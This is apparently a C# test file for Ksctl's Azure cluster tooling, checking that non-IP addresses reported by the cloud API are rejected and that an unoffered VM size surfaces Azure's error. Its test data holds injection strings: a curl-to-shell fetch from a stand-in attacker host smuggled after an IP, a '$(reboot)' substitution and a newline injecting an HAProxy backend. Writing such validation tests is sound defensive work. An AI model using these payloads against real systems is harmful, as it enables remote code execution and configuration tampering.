using Ksctl.Core.Clusters;
using Ksctl.Core.Diagnostics;
using Ksctl.Core.Model;

namespace Ksctl.Azure.Tests;

/// <summary>
/// Self-managed failures that stop before any SSH connection, so no test machines are needed (the VMs never boot):
/// an address ARM reports that is not an IP address is never recorded (issue #12: addresses reach SSH targets, scripts
/// and HAProxy's configuration); a VM size the region does not offer is ARM's SkuNotAvailable, verbatim (issue #10 item 8).
/// </summary>
[Collection(AzureEnvironmentCollection.Name)]
public sealed class AzureMachineTests : IAsyncLifetime
{
    private AzureTestBed _bed = null!;

    public async Task InitializeAsync()
    {
        _bed = await AzureTestBed.StartAsync();
        _bed.UseEnvironmentCredential();
    }

    public async Task DisposeAsync() => await _bed.DisposeAsync();

    private static readonly string[] Hostile =
    [
        "20.30.40.5; curl https://attacker.example/x | sh",
        "20.30.40.5\nbackend evil",
        "$(reboot)",
        "attacker.example",
        "020.030.040.005",
        "'20.30.40.7'",
        "20.30.40.8 ",
    ];

    [Fact]
    public async Task A_public_address_that_is_not_an_IP_is_never_recorded()
    {
        // Each of the cluster's seven machines gets another hostile value (one create covers them all).
        var next = 0;
        _bed.Arm.ReportedPublicIp = _ => Hostile[(Interlocked.Increment(ref next) - 1) % Hostile.Length];
        var spec = new ClusterSpec { Id = new ClusterId(CloudProvider.Azure, ClusterType.SelfManaged, "ha", "eastus"), WorkerCount = 0 };
        using var manager = _bed.NewManager();

        var e = await Assert.ThrowsAsync<PlanFailedException>(() => manager.CreateAsync(spec, new OperationOptions { ConnectDeadline = TimeSpan.FromSeconds(5) }, CancellationToken.None));

        Assert.Equal("KsctlCreationFailed", e.ErrorId);
        Assert.Equal(Hostile.Length, next);
        var cause = Assert.IsAssignableFrom<KsctlException>(e.InnerException);
        Assert.Equal("KsctlCloudApiError", cause.ErrorId);
        var state = await manager.GetAsync(spec.Id, CancellationToken.None);
        Assert.Equal(ClusterStatus.CreationFailed, state.Status);
        Assert.Equal(Hostile.Length, state.LastErrors.Count(l => l.Contains("is not an IP address")));
        Assert.Empty(state.Nodes);
        var recorded = System.Text.Json.JsonSerializer.Serialize(state);
        var output = await _bed.AllOutputAsync();
        foreach (var value in Hostile)
        {
            Assert.DoesNotContain(value, recorded);
            Assert.DoesNotContain(value, output);
        }

        // What was created is still deleted completely.
        await manager.DeleteAsync(spec.Id, OperationOptions.Default, CancellationToken.None);
        Assert.Empty(_bed.Arm.Inventory);
    }

    [Fact]
    public async Task A_VM_size_the_region_does_not_offer_is_ResourceUnavailable_with_Azures_message()
    {
        // A hyphenated size (accepted by Ksctl's validation) that eastus does not offer in the emulator's vmSizes list.
        const string size = "Standard_E4-2s_v5";
        var spec = new ClusterSpec
        {
            Id = new ClusterId(CloudProvider.Azure, ClusterType.SelfManaged, "ha", "eastus"), WorkerCount = 0,
            LoadBalancerSize = size, EtcdSize = size, ControlPlaneSize = size,
        };
        using var manager = _bed.NewManager();

        var e = await Assert.ThrowsAsync<PlanFailedException>(() => manager.CreateAsync(spec, OperationOptions.Default, CancellationToken.None));

        var cause = Assert.IsAssignableFrom<KsctlException>(e.InnerException);
        Assert.Equal(KsctlErrorCategory.ResourceUnavailable, cause.Category);
        Assert.Contains("409 SkuNotAvailable: The requested size for resource '/subscriptions/", cause.Message);
        Assert.Contains("is currently not available in location 'eastus'", cause.Message);
        Assert.DoesNotContain(_bed.Arm.Inventory, r => r.Type == "Microsoft.Compute/virtualMachines");
        Assert.Equal(ClusterStatus.CreationFailed, (await manager.GetAsync(spec.Id, CancellationToken.None)).Status);
    }
}
